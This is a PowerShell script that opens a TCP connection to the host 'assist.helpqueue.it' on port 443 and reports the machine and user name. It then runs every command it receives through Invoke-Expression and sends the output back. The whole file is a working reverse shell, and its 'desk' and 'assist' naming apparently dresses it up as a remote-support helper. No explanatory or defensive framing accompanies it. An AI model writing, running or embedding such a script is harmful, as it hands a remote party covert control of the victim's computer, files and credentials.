$desk = 'assist.helpqueue.it'
$port = 443
$client = New-Object System.Net.Sockets.TCPClient($desk, $port)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$reader = New-Object System.IO.StreamReader($stream)
$writer.AutoFlush = $true
$writer.WriteLine("assist $env:COMPUTERNAME\$env:USERNAME")

while ($client.Connected) {
    $writer.Write('PS ' + (Get-Location).Path + '> ')
    $cmd = $reader.ReadLine()
    if ($null -eq $cmd) { break }
    try { $out = Invoke-Expression $cmd 2>&1 | Out-String } catch { $out = $_.ToString() }
    $writer.WriteLine($out)
}
$client.Close()
